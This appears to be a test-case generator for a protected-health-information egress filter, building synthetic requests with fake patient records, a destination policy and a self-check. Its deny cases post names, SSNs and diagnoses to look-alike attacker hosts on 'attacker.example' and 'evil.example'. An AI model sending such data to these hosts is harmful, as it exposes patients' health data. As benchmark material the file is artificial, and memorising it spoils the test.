# ============================================================================= 19. RPM device uploads (rpm: mrn, device_id, date)
def rpm():
    S = "rpm_devices"
    p = nextp(); tx = "8" + alnum(5, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789")
    body = {"patient": {"mrn": p.mrn, "name": p.full}, "recordType": "egv", "recordVersion": "3.0", "transmitterId": tx, "transmitterGeneration": "g7",
            "records": [{"recordId": uuid(), "systemTime": ts(42), "displayTime": "2026-04-02T01:12:44-07:00", "value": v, "trend": t, "unit": "mg/dL"}
                        for v, t in ((182, "flat"), (204, "singleUp"), (231, "doubleUp"))]}
    add(S, "POST", f"{RPM}/v1/cgm/egvs", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [[p.mrn, "mrn"], [p.full, "name"], [tx, "device_id"]],
        ["egv", "doubleUp"], "redact")
    p = nextp(); sn = f"2023{digits(7)}LG"
    body = {"deviceModel": "HEM-7600T", "deviceSerial": sn, "patientRef": p.mrn, "patientDob": p.dobs("dmon"), "patientPhone": p.phone("intl"),
            "readings": [{"systolic": 148, "diastolic": 92, "pulse": 77, "measuredAt": "2026-04-01T07:12:00-07:00", "irregularHeartbeat": False}]}
    add(S, "POST", f"{RPM}/v1/bp/readings", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[sn, "device_id"], [p.mrn, "mrn"], [p.dobs("dmon"), "dob"], [p.phone("intl"), "phone"]], ["HEM-7600T", "2026-04-01T07:12:00-07:00"], "redact")
    p = nextp(); sn = "OX" + digits(9)
    body = {"device": {"type": "pulse_oximeter", "serial_number": sn}, "patient_id": p.mrn, "contact_email": p.email,
            "observations": [{"code": "59408-5", "value": 91, "unit": "%", "effective": "2026-04-01T22:40:00-07:00"}]}
    add(S, "POST", f"{RPM}/v1/observations", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [[sn, "device_id"], [p.mrn, "mrn"], [p.email, "email"]],
        ["59408-5"], "redact")
    p = nextp(); sn = "SC-" + digits(8)
    body = {"shipment": {"device": "cellular scale BPM-Scale-2", "serial": sn, "shipTo": {"name": p.full, "street": p.street, "unit": p.unit, "city": p.city, "zip": p.zip4},
            "patientMrn": p.mrn}, "carrier": "UPS", "service": "Ground"}
    add(S, "POST", f"{RPM}/v1/shipments", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[sn, "device_id"], [p.full, "name"], [p.street, "address"], [p.zip4, "zip"], [p.mrn, "mrn"]], ["cellular scale BPM-Scale-2"], "redact")
    p = nextp(); sn = "GLU" + digits(8)
    body = {"meterSerial": sn, "patientMrn": p.mrn, "enrolled": "2026-01-15", "program": "RPM-CCM", "diagnosis": p.dx(), "icd10": p.icd(),
            "readings": [{"mgdl": 212, "at": "2026-04-01T06:55:00-07:00", "meal": "fasting"}]}
    add(S, "POST", f"{RPM}/v1/glucose", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[sn, "device_id"], [p.mrn, "mrn"], [p.dx(), "condition"], [p.icd(), "icd10"]], ["RPM-CCM", "fasting"], "redact")
    p = nextp(); sn = "OX" + digits(9)
    body = {"device": {"type": "pulse_oximeter", "serial_number": sn}, "patient_id": p.mrn, "assigned": p.ad("iso"),
            "observations": [{"code": "59408-5", "value": 96, "unit": "%", "effective": "2026-04-02T08:10:00-07:00"}]}
    add(S, "POST", f"{RPM}/v1/observations", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [[sn, "device_id"], [p.mrn, "mrn"], [p.ad("iso"), "date"]],
        ["59408-5"], "pass")

    S = "rpm_clean"
    body = {"catalog": [{"model": "HEM-7600T", "kind": "blood pressure cuff", "fda": "K203456", "firmware": "2.1.4", "unitCost": "48.00"},
                        {"model": "BPM-Scale-2", "kind": "cellular scale", "fda": "K192211", "firmware": "1.9.0", "unitCost": "62.50"}]}
    add(S, "PUT", f"{RPM}/v1/catalog", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [], ["K203456", "62.50"], "pass")
    body = {"month": "2026-03", "enrolled": 318, "readings_16plus_days": 241, "adherence_pct": 75.8, "alerts": {"bp_high": 44, "spo2_low": 6}}
    add(S, "POST", f"{RPM}/v1/reports/adherence", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [], ["75.8", "2026-03"], "pass")


# ============================================================================= 20. research server, limited data set (research: date, dob, zip, age_over_89)
def research():
    S = "redcap_import"
    tok = hexs(32).upper()
    p = nextp()
    rec = [{"record_id": str(R.randint(1000, 1999)), "redcap_event_name": "baseline_arm_1", "mrn": p.mrn, "pt_name": p.full, "dob": p.dobs("iso"),
            "zip": p.zip, "enroll_date": "2026-03-30", "a1c_baseline": "8.4"}]
    add(S, "POST", f"{RED}/api/", FORMH, form([("token", tok), ("content", "record"), ("format", "json"), ("type", "flat"), ("overwriteBehavior", "normal"),
        ("data", J(rec)), ("returnContent", "count")]), [[p.mrn, "mrn"], [p.full, "name"], [p.dobs("iso"), "dob"], [p.zip, "zip"]],
        ["baseline_arm_1", "a1c_baseline"], "redact")
    p = nextp()
    rec = [{"record_id": str(R.randint(1000, 1999)), "redcap_event_name": "contact_arm_1", "recontact_email": p.email, "recontact_phone": p.phone("dot"),
            "preferred_time": "evenings"}]
    add(S, "POST", f"{RED}/api/", FORMH, form([("token", tok), ("content", "record"), ("format", "json"), ("type", "flat"), ("data", J(rec))]),
        [[p.email, "email"], [p.phone("dot"), "phone"]], ["contact_arm_1", "evenings"], "redact")
    rows = []; phi = []
    for x in (nextp(), ELDERS[0], nextp()):
        rows.append(f"{R.randint(2000, 2999)},{x.first} {x.last},{x.dobs('us')},{x.age()},{x.zip}")
        phi += [[f"{x.first} {x.last}", "name"], [x.dobs("us"), "dob"], [x.zip, "zip"]]
    phi.append([str(ELDERS[0].age()), "age_over_89"])
    csvt = "record_id,participant_name,dob,age_at_consent,zip\n" + "\n".join(rows) + "\n"
    add(S, "POST", f"{RED}/api/", FORMH, form([("token", tok), ("content", "record"), ("format", "csv"), ("type", "flat"), ("data", csvt)]), phi,
        ["age_at_consent"], "redact")
    p = nextp()
    rec = [{"record_id": str(R.randint(1000, 1999)), "redcap_event_name": "visit_2_arm_1",
            "visit_notes": f"Participant brought SSA letter; SSN {p.ssn} copied to binder by mistake - shredded. Visit date {p.ad('us')}."}]
    add(S, "POST", f"{RED}/api/", FORMH, form([("token", tok), ("content", "record"), ("format", "json"), ("data", J(rec))]), [[p.ssn, "ssn"], [p.ad("us"), "date"]],
        ["visit_2_arm_1"], "redact")
    p = ELDERS[1]; q = nextp()
    rec = [{"record_id": str(R.randint(3000, 3999)), "redcap_event_name": "baseline_arm_1", "dob": x.dobs("iso"), "zip": x.zip, "age": str(x.age()),
            "enroll_date": x.ad("iso")} for x in (p, q)]
    add(S, "POST", f"{RED}/api/", FORMH, form([("token", tok), ("content", "record"), ("format", "json"), ("data", J(rec))]),
        [[p.dobs("iso"), "dob"], [p.zip, "zip"], [str(p.age()), "age_over_89"], [p.ad("iso"), "date"], [q.dobs("iso"), "dob"], [q.zip, "zip"], [q.ad("iso"), "date"]],
        ["baseline_arm_1"], "pass")

    S = "research_clean"
    add(S, "POST", f"{RED}/api/", FORMH, form([("token", tok), ("content", "metadata"), ("format", "json"), ("forms[0]", "demographics"), ("fields[0]", "dob"),
        ("fields[1]", "mrn"), ("fields[2]", "pt_name")]), [], ["metadata", "demographics", "pt_name"], "pass")


# ============================================================================= 21. public health reporting (allow-all)
def public_health():
    S = "public_health"
    p = nextp()
    x = (f'<?xml version="1.0" encoding="UTF-8"?><ClinicalDocument xmlns="urn:hl7-org:v3"><templateId root="2.16.840.1.113883.10.20.15.2" extension="2016-12-01"/>'
         f'<code code="55751-2" codeSystem="2.16.840.1.113883.6.1" displayName="Public Health Case Report"/><recordTarget><patientRole>'
         f'<id extension="{p.mrn}" root="2.16.840.1.113883.3.7741.1"/><addr use="H"><streetAddressLine>{xesc(p.street)}</streetAddressLine>'
         f'<city>{p.city}</city><state>AZ</state><postalCode>{p.zip}</postalCode></addr><telecom use="MC" value="tel:{p.phone("e164")}"/>'
         f'<patient><name><given>{xesc(p.first)}</given><family>{xesc(p.last)}</family></name><birthTime value="{p.dobs("d8")}"/></patient></patientRole></recordTarget>'
         f'<component><structuredBody><component><section><entry><observation><value code="60826002" displayName="Coccidioidomycosis"/></observation></entry>'
         f'</section></component></structuredBody></component></ClinicalDocument>')
    add(S, "POST", f"{ECR}/eicr/submit", {"Content-Type": "application/xml", "Authorization": "Bearer " + alnum(40)}, x,
        [[p.mrn, "mrn"], [p.street, "address"], [p.zip, "zip"], [p.phone("e164"), "phone"]] + NM(p) + [[p.dobs("d8"), "dob"], ["Coccidioidomycosis", "condition"]],
        ["55751-2"], "pass")
    p = nextp()
    body = {"reportingFacility": {"name": PRACTICE, "npi": GROUP_NPI}, "condition": "Tuberculosis, pulmonary", "icd10": "A15.0",
            "patient": {"name": p.full, "dob": p.dobs("us"), "sex": p.sex, "address": f"{p.street} {p.unit}, {p.city}, AZ {p.zip}", "phone": p.phone("paren"),
                        "countryOfBirth": "Somalia" if p.idx in (4, 5) else "Unknown"}, "onset": "2026-03-10", "reporter": staff(3)}
    add(S, "POST", f"{ADHS}/api/case-reports", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.street, "address"], [p.zip, "zip"], [p.phone("paren"), "phone"], ["Tuberculosis, pulmonary", "condition"],
         ["A15.0", "icd10"]], [staff(3)], "pass")
    p = ELDERS[1]
    body = {"reportingFacility": {"name": PRACTICE, "npi": GROUP_NPI}, "condition": "Influenza-associated hospitalization", "patient": {"name": p.full, "dob": p.dobs("iso"),
            "ageYears": p.age(), "tribalAffiliation": "Navajo Nation"}, "specimenDate": p.ad("iso")}
    add(S, "POST", f"{ADHS}/api/case-reports", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.full, "name"], [p.dobs("iso"), "dob"], [str(p.age()), "age_over_89"], [p.ad("iso"), "date"]], [], "pass")
    p = nextp()
    body = {"labResult": {"patient": {"mrn": p.mrn, "last": p.last, "first": p.first, "dob": p.dobs("d8"), "ssn": p.ssn}, "test": "HCV RNA, quantitative",
            "loinc": "11011-4", "value": "1.2E6 IU/mL", "collected": p.ad("d8"), "performingLab": "Sonora Quest Laboratories"}}
    add(S, "POST", f"{ADHS}/api/elr", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body),
        [[p.mrn, "mrn"]] + NM(p) + [[p.dobs("d8"), "dob"], [p.ssn, "ssn"], [p.ad("d8"), "date"]], ["11011-4"], "pass")


# ============================================================================= 22. AI agents' tool-call arguments (llm-agents: nothing)
def agents():
    S = "agent_tool_calls"
    LH = {**JSONH, "Authorization": "Bearer gsk_" + alnum(48)}
    p = nextp(); cid = "call_" + alnum(24)
    body = {"model": "llama-3.3-70b-versatile", "messages": [
        {"role": "system", "content": "You are the scheduling assistant for Saguaro Family Medicine."},
        {"role": "user", "content": f"Book {p.first} a follow-up next week"},
        {"role": "assistant", "content": None, "tool_calls": [{"id": cid, "type": "function", "function": {"name": "lookup_patient",
         "arguments": J({"last_name": p.last, "dob": p.dobs("iso")}, compact=True)}}]},
        {"role": "tool", "tool_call_id": cid, "content": J({"mrn": p.mrn, "phone": p.phone("paren"), "pcp": staff(0)}, compact=True)}],
        "tools": [{"type": "function", "function": {"name": "lookup_patient", "parameters": {"type": "object", "properties": {"last_name": {"type": "string"}, "dob": {"type": "string"}}}}}]}
    add(S, "POST", f"{GROQ}/openai/v1/chat/completions", LH, J(body), NM(p) + [[p.dobs("iso"), "dob"], [p.mrn, "mrn"], [p.phone("paren"), "phone"]],
        ["lookup_patient", "llama-3.3-70b-versatile"], "redact")
    p = nextp(); cid = "call_" + alnum(24)
    msg = f"Hi {p.first}, {staff(2)} reviewed your labs. Your {p.dx()} medication dose stays the same. Call {PRACTICE_PHONE} with questions."
    body = {"model": "meta-llama/Llama-3.3-70B-Instruct-Turbo", "messages": [{"role": "user", "content": "text the patient her results summary"},
            {"role": "assistant", "tool_calls": [{"id": cid, "type": "function", "function": {"name": "send_sms", "arguments": J({"to": p.phone("e164"), "body": msg})}}]}]}
    add(S, "POST", f"{TOG}/v1/chat/completions", {**JSONH, "Authorization": "Bearer " + hexs(64)}, J(body),
        [[p.first, "name"], [p.dx(), "condition"], [p.phone("e164"), "phone"]], ["send_sms", staff(2), PRACTICE_PHONE], "redact")
    p = nextp()
    scratch = (f"Thought: the user wants records faxed for {p.full} (DOB {p.dobs('us')}).\nAction: fax_records\n"
               f"Action Input: {{\"patient\": \"{p.full}\", \"ssn\": \"{p.ssn}\", \"to_fax\": \"15208812200\"}}\nObservation: queued job fx_{alnum(8)}\n")
    body = {"model": "accounts/fireworks/models/llama-v3p1-405b-instruct", "prompt": scratch + "Thought:", "max_tokens": 256, "stop": ["Observation:"]}
    add(S, "POST", f"{FWK}/inference/v1/completions", {**JSONH, "Authorization": "Bearer fw_" + alnum(24)}, J(body),
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.ssn, "ssn"]], ["fax_records", "15208812200"], "redact")
    p = nextp()
    body = {"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "find_slots", "arguments": {"patient_mrn": p.mrn, "patient_name": p.full,
            "reason": p.dx(), "preferred": "mornings", "provider_npi": staff(1, "npi")}}}
    add(S, "POST", f"{MCP}/mcp", {**JSONH, "Accept": "application/json, text/event-stream", "Mcp-Session-Id": uuid()}, J(body),
        [[p.mrn, "mrn"], [p.full, "name"], [p.dx(), "condition"]], ["find_slots", staff(1, "npi")], "redact")
    p = nextp()
    body = {"jsonrpc": "2.0", "id": 11, "method": "tools/call", "params": {"name": "update_demographics", "arguments": {"mrn": p.mrn,
            "changes": [{"op": "replace", "path": "/email", "value": p.email}, {"op": "replace", "path": "/address/line1", "value": p.street},
                        {"op": "replace", "path": "/address/zip", "value": p.zip}]}}}
    add(S, "POST", f"{MCP}/mcp", {**JSONH, "Accept": "application/json, text/event-stream", "Mcp-Session-Id": uuid()}, J(body),
        [[p.mrn, "mrn"], [p.email, "email"], [p.street, "address"], [p.zip, "zip"]], ["update_demographics"], "redact")
    p = ELDERS[0]
    body = {"model": "llama-3.3-70b-versatile", "messages": [{"role": "user", "content": f"Draft a fall-risk letter for {p.full}, {p.age()} y/o, lives alone, "
            f"uses a walker. Send to her daughter."}], "temperature": 0.2}
    add(S, "POST", f"{GROQ}/openai/v1/chat/completions", LH, J(body), [[p.full, "name"], [str(p.age()), "age_over_89"]], ["fall-risk letter"], "redact")
    p = nextp()
    body = {"model": "meta-llama/Llama-3.3-70B-Instruct-Turbo", "messages": [{"role": "user", "content": "check coverage"}, {"role": "assistant", "tool_calls": [
            {"id": "call_" + alnum(24), "type": "function", "function": {"name": "check_eligibility", "arguments": J({"member_id": p.mbr, "payer": p.payer})}}]}],
            "metadata": {"end_user_ip": p.ip, "session": uuid()}}
    add(S, "POST", f"{TOG}/v1/chat/completions", {**JSONH, "Authorization": "Bearer " + hexs(64)}, J(body), [[p.mbr, "member_id"], [p.ip, "ip_address"]],
        ["check_eligibility"], "redact")

    S = "agent_clean"
    body = {"model": "llama-3.3-70b-versatile", "messages": [{"role": "user", "content": "List tomorrow's open slots for Dr. Holloway"}],
            "tools": [{"type": "function", "function": {"name": "lookup_patient", "description": "Find a patient by last name and date of birth",
                       "parameters": {"type": "object", "properties": {"last_name": {"type": "string"}, "dob": {"type": "string", "description": "YYYY-MM-DD"},
                                                                       "ssn_last4": {"type": "string"}}, "required": ["last_name", "dob"]}}},
                      {"type": "function", "function": {"name": "find_slots", "parameters": {"type": "object", "properties": {"provider": {"type": "string"}, "date": {"type": "string"}}}}}]}
    add(S, "POST", f"{GROQ}/openai/v1/chat/completions", LH, J(body), [], ["Dr. Holloway", "YYYY-MM-DD", "ssn_last4"], "pass")
    body = {"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": "find_slots", "arguments": {"provider": staff(1), "date": "2026-04-15",
            "visit_type": "annual physical", "location": PRACTICE_ADDR}}}
    add(S, "POST", f"{MCP}/mcp", {**JSONH, "Accept": "application/json, text/event-stream", "Mcp-Session-Id": uuid()}, J(body), [],
        [staff(1), "2026-04-15", PRACTICE_ADDR], "pass")
    add(S, "POST", f"{MCP}/mcp", {**JSONH, "Accept": "application/json, text/event-stream"}, J({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}), [],
        ["tools/list"], "pass")
    body = {"model": "accounts/fireworks/models/llama-v3p1-70b-instruct", "messages": [{"role": "system", "content": "Summarize clinic operations."},
            {"role": "user", "content": "March: 4,812 visits (+6.1% m/m), no-show rate 7.4%, median wait 11 min, 318 patients on RPM, top reasons: annual physical, "
                                        "URI, hypertension follow-up."}]}
    add(S, "POST", f"{FWK}/inference/v1/chat/completions", {**JSONH, "Authorization": "Bearer fw_" + alnum(24)}, J(body), [], ["4,812 visits", "7.4%"], "pass")


# ============================================================================= 23. more clean look-alikes across destinations
def more_clean():
    S = "clean_misc"
    body = {"event_type": "saved", "resource": "appointment_types", "data": [{"id": 14, "name": "Diabetes follow-up", "duration": 20},
            {"id": 15, "name": "Valley fever recheck", "duration": 15}, {"id": 16, "name": "Prenatal visit", "duration": 30}]}
    add(S, "POST", f"{CARE}/v1/inbound/elation", JSONH, J(body), [], ["Diabetes follow-up", "Valley fever recheck"], "pass")
    evs = [{"event": "Order Shipped", "properties": {"time": epoch(43) * 1000, "distinct_id": "usr_" + alnum(10), "$insert_id": hexs(16), "order_id": "SFM-ORD-20260402-0117",
            "tracking": "1Z" + alnum(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), "sku": "BP-CUFF-ADULT-L", "price": "48.00"}}]
    add(S, "POST", f"{MP}/import?strict=1&project_id=3319021", JSONH, J(evs), [], ["SFM-ORD-20260402-0117", "BP-CUFF-ADULT-L"], "pass")
    lines = [{"timestamp": ts(44), "level": "INFO", "fields": {"message": "claim acknowledged", "claim": claim_no(), "payer_id": "87726", "amount": "245.00",
              "trace_id": hexs(32)}, "target": "claims::ack"}]
    add(S, "POST", f"{AXI}/v1/datasets/sfm-prod/ingest", AXH, ND(lines), [], ["claims::ack", "87726"], "pass")
    body = {"short_description": "Update NPI on fax cover template", "caller_id": staff(4, "name"),
            "description": f"Cover sheet should show group NPI {GROUP_NPI} and fax {PRACTICE_FAX}; {staff(0, 'dr')} NPI {staff(0, 'npi')} on referrals."}
    add(S, "POST", f"{SNOWN}/api/now/table/incident", {**JSONH, "Authorization": "Basic " + b64("svc_portal:" + alnum(16))}, J(body), [],
        [GROUP_NPI, staff(0, "npi"), PRACTICE_FAX], "pass")
    body = {"app_id": "3920112", "identity": "anon_" + alnum(12), "event": "Provider Profile Viewed", "properties": {"provider": staff(2), "languages": "English, Navajo",
            "accepting_new": True}}
    add(S, "POST", f"{HEAP}/api/track", JSONH, J(body), [], [staff(2), "English, Navajo"], "pass")
    body = {"type": "message", "text": "Nightly eligibility batch: 212 checked, 4 mismatches, 0 errors. Report: https://reports.saguarofm.com/elig/2026-04-02"}
    add(S, "POST", f"{TEAMS}/webhookb2/{uuid()}@{uuid()}/IncomingWebhook/{hexs(32)}/{uuid()}", JSONH, J(body), [], ["212 checked", "2026-04-02"], "pass")
    txt = "week,new_patients,visits,telehealth_share\n2026-W11,41,1108,0.19\n2026-W12,38,1142,0.21\n2026-W13,45,1176,0.18\n"
    add(S, "PUT", f"{S3}/ops/weekly_volume.csv", CSVH, txt, [], ["2026-W12", "1176"], "pass")
    body = {"controlNumber": digits(9), "tradingPartnerServiceId": "AHCCCS", "provider": {"organizationName": PRACTICE, "npi": GROUP_NPI}, "healthCheck": True}
    add(S, "POST", f"{CHC}/medicalnetwork/eligibility/v3/healthcheck", {**JSONH, "Authorization": "Bearer " + alnum(40)}, J(body), [], [GROUP_NPI], "pass")


# ============================================================================= 24. unknown hosts (deny)
def unknown_hosts():
    S = "unknown_host"
    p = nextp()
    add(S, "POST", "http://api.freeocr-tools.example/v1/ocr", JSONH, J({"text": f"{p.full} DOB {p.dobs('us')} SSN {p.ssn}"}),
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.ssn, "ssn"]], [], "deny")
    p = nextp()
    add(S, "GET", f"http://geo.ip-lookup-free.example/json/{p.ip}?fields=city,zip", {}, "", [[p.ip, "ip_address"]], [], "deny")
    add(S, "POST", "http://hooks.random-zap-clone.example/catch/1123", JSONH, J({"event": "heartbeat", "version": BUILD}), [], [], "deny")
    p = nextp()
    add(S, "POST", "http://api.groq.com.attacker.example/openai/v1/chat/completions", JSONH, J({"model": "x", "messages": [{"role": "user", "content": f"{p.full} {p.dx()}"}]}),
        [[p.full, "name"], [p.dx(), "condition"]], [], "deny")
    add(S, "PUT", "http://sfm-deid-exports.s3.us-east-1.amazonaws.com.evil.example/x.csv", CSVH, "a,b\n1,2\n", [], [], "deny")


SCENARIOS = [ehr_webhooks, spa_telemetry, cdp_calls, error_trackers, structured_logs, call_center, online_fax, reminders_reputation, clearinghouse, payments,
             telehealth, warehouse, itsm, teams, twilio_studio, sendgrid, wallet, kiosk, rpm, research, public_health, agents, more_clean, unknown_hosts]


def policy():
    return {"destinations": [
        {"name": "analytics", "hosts": ["r.lr-ingest.io", "rs.fullstory.com", "api.fullstory.com", "browser-intake-us5-datadoghq.com", "api.mixpanel.com",
                                        "heapanalytics.com", "collect.tealiumiq.com"], "allow": [], "on_violation": "redact"},
        {"name": "cdp", "hosts": ["us-east-1.hightouch-events.com", "api.perfalytics.com", "*.jitsu.com"], "allow": [], "on_violation": "redact"},
        {"name": "error-trackers", "hosts": ["capture.trackjs.com", "push.appsignal.com", "collector.exceptionless.io"], "allow": [], "on_violation": "block"},
        {"name": "logs", "hosts": ["api.axiom.co", "ingress.us2.coralogix.com", "ingest.us.signoz.cloud"], "allow": [], "on_violation": "redact"},
        {"name": "care-coordination", "hosts": ["api.carenav-hub.example"], "allow": ["name", "dob", "mrn", "phone", "date", "condition", "icd10"], "on_violation": "redact"},
        {"name": "contact-center", "hosts": ["api.five9.com", "api.usw2.pure.cloud"], "allow": ["name", "phone"], "on_violation": "redact"},
        {"name": "efax", "hosts": ["www.srfax.com", "api.phaxio.com"], "allow": ["name", "dob", "phone", "date", "mrn", "condition", "icd10", "address", "zip", "member_id"],
         "on_violation": "redact"},
        {"name": "reminders", "hosts": ["api.weaveconnect.com", "api.solutionreach.com"], "allow": ["name", "phone", "email", "date"], "on_violation": "redact"},
        {"name": "reputation", "hosts": ["api.podium.com", "api.birdeye.com"], "allow": ["name", "phone", "email"], "on_violation": "redact"},
        {"name": "clearinghouse", "hosts": ["apigw.changehealthcare.com", "api.availity.com"], "allow": ["all"], "on_violation": "block"},
        {"name": "payments", "hosts": ["api.instamed.com", "api.rectanglehealth.com"], "allow": ["name", "email", "phone", "address", "zip", "card_number", "bank_account"],
         "on_violation": "redact"},
        {"name": "telehealth", "hosts": ["api.vsee.com", "api.mend.com"], "allow": ["name", "email", "phone", "date"], "on_violation": "redact"},
        {"name": "warehouse", "hosts": ["sfm-deid-exports.s3.us-west-2.amazonaws.com", "storage.googleapis.com", "bigquery.googleapis.com", "*.snowflakecomputing.com",
                                        "*.cloud.databricks.com", "api.stitchdata.com", "webhooks.fivetran.com"],
         "allow": ["mrn", "date", "zip", "icd10", "condition", "age_over_89"], "on_violation": "redact"},
        {"name": "itsm", "hosts": ["*.service-now.com", "*.freshservice.com"], "allow": [], "on_violation": "redact"},
        {"name": "team-chat", "hosts": ["*.webhook.office.com", "*.logic.azure.com"], "allow": [], "on_violation": "redact"},
        {"name": "sms-flows", "hosts": ["studio.twilio.com"], "allow": ["name", "phone", "date"], "on_violation": "redact"},
        {"name": "email", "hosts": ["api.sendgrid.com"], "allow": ["name", "email", "date"], "on_violation": "redact"},
        {"name": "wallet", "hosts": ["walletobjects.googleapis.com", "api.pub1.passkit.io"], "allow": [], "on_violation": "redact"},
        {"name": "kiosk", "hosts": ["api.lobbycheck.example"], "allow": ["name", "dob", "date", "mrn", "member_id"], "on_violation": "redact"},
        {"name": "rpm", "hosts": ["ingest.vitalsync-rpm.example"], "allow": ["mrn", "device_id", "date"], "on_violation": "redact"},
        {"name": "research", "hosts": ["redcap.sonoran-research.example"], "allow": ["date", "dob", "zip", "age_over_89"], "on_violation": "redact"},
        {"name": "public-health", "hosts": ["ecr.aimsplatform.org", "medsis.azdhs.example"], "allow": ["all"], "on_violation": "block"},
        {"name": "llm-agents", "hosts": ["api.groq.com", "api.together.xyz", "api.fireworks.ai", "mcp.slotfinder-agent.example"], "allow": [], "on_violation": "redact"}],
        "default_destination": "deny",
        "roster_columns": {"first": "name", "last": "name", "dob": "dob", "mrn": "mrn", "phone": "phone", "email": "email"}}


# ----------------------------------------------------------------------------- self-check (uses the harness's own views)
sys.path.insert(0, "/work/shared/eval")
try:
    from common import views as _h_views, present as _present, dest_of as _dest_of
except Exception:   # harness not available: fall back to a literal search
    _h_views = None
    def _present(v, text): return re.search(r"(?<![A-Za-z0-9])" + re.escape(v) + r"(?![A-Za-z0-9])", text, re.I) is not None
    def _dest_of(pol, host):
        return next((d for d in pol["destinations"] for h in d["hosts"] if h == host or (h.startswith("*.") and host.endswith(h[1:]))), None)


def _views(c):
    u = urlsplit(c["url"]); path = u.path + ("?" + u.query if u.query else "")
    body = base64.b64decode(c["body_b64"]) if "body_b64" in c else c["body"].encode()
    if _h_views:
        return _h_views({"path": path, "headers": c["headers"], "body": body})
    if c["headers"].get("Content-Encoding") == "gzip": body = gzip.decompress(body)
    return "\n".join([path, "\n".join(f"{k}: {v}" for k, v in c["headers"].items()), body.decode("utf-8", "replace")])


def selfcheck():
    bad = 0; ids = set(); pol = policy()
    for c in CASES:
        assert c["id"] not in ids, c["id"]; ids.add(c["id"])
        try: c["url"].encode("ascii")
        except UnicodeEncodeError: print(f"selfcheck: {c['id']} url not ascii", file=sys.stderr); bad += 1
        for k, v in c["headers"].items():
            try: v.encode("latin-1")
            except UnicodeEncodeError: print(f"selfcheck: {c['id']} header {k} not latin-1", file=sys.stderr); bad += 1
        t = _views(c)
        for v, k in c["phi"]:
            if not v.strip(): print(f"selfcheck: {c['id']} empty phi {k}", file=sys.stderr); bad += 1
            if not _present(v, t): print(f"selfcheck: {c['id']} phi {k} {v!r} not found", file=sys.stderr); bad += 1
            if k == "age_over_89":
                raw = c.get("body", "")
                if c["headers"].get("Content-Type", "").startswith("application/x-www-form-urlencoded"): raw = unquote_plus(raw)
                if len(re.findall(r"(?<![A-Za-z0-9])" + re.escape(v) + r"(?![A-Za-z0-9])", raw)) != 1:
                    print(f"selfcheck: {c['id']} age {v} not unique in body", file=sys.stderr); bad += 1
        for v in c["controls"]:
            if not _present(v, t): print(f"selfcheck: {c['id']} control {v!r} not found", file=sys.stderr); bad += 1
            for pv, _ in c["phi"]:
                if _present(pv, v) or _present(v, pv): print(f"selfcheck: {c['id']} control {v!r} overlaps phi {pv!r}", file=sys.stderr); bad += 1
        d = _dest_of(pol, urlsplit(c["url"]).hostname)
        if d is None and c["expect"] != "deny": print(f"selfcheck: {c['id']} host has no destination", file=sys.stderr); bad += 1
        if d is not None and c["expect"] == "deny": print(f"selfcheck: {c['id']} deny case but host matches {d['name']}", file=sys.stderr); bad += 1
        dis = [k for _, k in c["phi"]] if d is None else [k for _, k in c["phi"] if "all" not in d["allow"] and k not in d["allow"]]
        if c["expect"] == "redact" and not dis: print(f"selfcheck: {c['id']} redact case without disallowed PHI", file=sys.stderr); bad += 1
        if c["expect"] == "pass" and dis: print(f"selfcheck: {c['id']} pass case with disallowed PHI {dis}", file=sys.stderr); bad += 1
        if c["expect"] == "block" and (d is None or d["on_violation"] != "block" or not dis):
            print(f"selfcheck: {c['id']} block case but destination does not block or nothing disallowed", file=sys.stderr); bad += 1
        if c["expect"] in ("redact", "pass") and d is not None and d["on_violation"] == "block" and dis:
            print(f"selfcheck: {c['id']} disallowed PHI at a blocking destination must expect block", file=sys.stderr); bad += 1
    return bad


def main():
    out = sys.argv[1]; os.makedirs(out, exist_ok=True)
    for f in SCENARIOS:
        f()
    bad = selfcheck()
    json.dump(policy(), open(os.path.join(out, "policy.json"), "w"), indent=1)
    with open(os.path.join(out, "cases.jsonl"), "w", encoding="utf-8") as fh:
        for c in CASES: fh.write(json.dumps(c, ensure_ascii=False) + "\n")
    with open(os.path.join(out, "roster.csv"), "w", encoding="utf-8") as fh:   # only every other patient: exact matching covers about half
        fh.write("first,last,dob,mrn,phone,email\n")
        for i, p in enumerate(PATIENTS):
            if i % 2: continue
            fh.write(f"{p.first},{p.last},{p.dob.isoformat()},{p.mrn},{p.phone('dash')},{p.email}\n")
    ex = {}
    for c in CASES: ex[c["expect"]] = ex.get(c["expect"], 0) + 1
    clean_n = sum(1 for c in CASES if not c["phi"] and c["expect"] == "pass")
    print(f"{len(CASES)} cases -> {out}  {ex}  clean={clean_n} ({100 * clean_n / len(CASES):.0f}%)" + (f"  SELF-CHECK PROBLEMS: {bad}" if bad else ""))


if __name__ == "__main__":
    main()
